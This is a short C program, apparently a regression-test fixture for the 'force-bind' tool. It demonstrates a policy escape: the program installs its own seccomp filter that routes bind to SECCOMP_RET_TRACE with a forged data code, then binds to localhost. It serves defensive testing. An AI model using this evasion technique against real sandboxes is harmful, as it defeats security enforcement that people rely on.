/* Found in review: a way around the policy that force-bind must close (tests/escapes.rs). */
// Installs its own seccomp filter: bind -> SECCOMP_RET_TRACE with data 0 (forged code), then binds 127.0.0.1:0.
#define _GNU_SOURCE
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <errno.h>
#include <stddef.h>
#include <unistd.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <sys/socket.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <linux/seccomp.h>
#include <linux/filter.h>
int main(int c,char**v){
  unsigned data = c>1? atoi(v[1]):0;
  struct sock_filter f[]={
    BPF_STMT(BPF_LD|BPF_W|BPF_ABS, offsetof(struct seccomp_data,nr)),
    BPF_JUMP(BPF_JMP|BPF_JEQ|BPF_K, __NR_bind, 0, 1),
    BPF_STMT(BPF_RET|BPF_K, SECCOMP_RET_TRACE|data),
    BPF_STMT(BPF_RET|BPF_K, SECCOMP_RET_ALLOW)};
  struct sock_fprog p={4,f};
  prctl(PR_SET_NO_NEW_PRIVS,1,0,0,0);
  int r=syscall(SYS_seccomp,SECCOMP_SET_MODE_FILTER,0,&p); printf("seccomp: %d %s\n",r,r?strerror(errno):"ok");
  int s=socket(AF_INET,SOCK_STREAM,0); struct sockaddr_in a={.sin_family=AF_INET}; a.sin_addr.s_addr=htonl(0x7f000001);
  r=bind(s,(void*)&a,sizeof a); socklen_t l=sizeof a; getsockname(s,(void*)&a,&l);
  printf("bind: %d %s -> %s:%d\n",r,r?strerror(errno):"ok",inet_ntoa(a.sin_addr),ntohs(a.sin_port)); return 0;}
